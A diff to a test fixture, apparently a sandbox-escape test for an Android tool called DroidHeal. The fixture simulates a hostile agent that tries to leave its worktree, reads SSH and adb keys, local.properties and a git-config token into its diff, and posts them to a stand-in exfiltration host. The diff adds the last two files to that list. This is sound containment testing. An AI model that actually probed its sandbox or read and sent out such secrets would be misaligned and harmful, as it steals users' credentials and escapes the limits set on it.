@@ -5,7 +5,8 @@
  * then tries every route out of its worktree — `..`, `../..`, $HOME, $TMPDIR, /tmp, /var/tmp, the
  * user's repository (found through the worktree's `.git` file: a new file and a line appended to a
  * tracked one) — reads what it has no business reading (`~/.android/adbkey`, `~/.ssh`, the real HOME
- * named in DROIDHEAL_TEST_REAL_HOME) into its diff, and posts to a host it was never given
+ * named in DROIDHEAL_TEST_REAL_HOME, the user's uncommitted `local.properties`, the token in the
+ * repository's git config) into its diff, and posts to a host it was never given
  * (DROIDHEAL_TEST_EXFIL_URL). It prints what each try did on stderr, one JSON line.
  */
 import { appendFileSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
@@ -61,6 +62,9 @@ for (const secret of [
   path.join(os.homedir(), '.android', 'adbkey'),
   path.join(realHome, '.android', 'adbkey'),
   path.join(realHome, '.ssh', 'id_ed25519'),
+  // what only the user's working tree holds, and the token CI keeps in the git config
+  path.join(userRepo, 'local.properties'),
+  path.join(userRepo, '.git', 'config'),
 ]) {
   try {
     loot += readFileSync(secret, 'utf8');
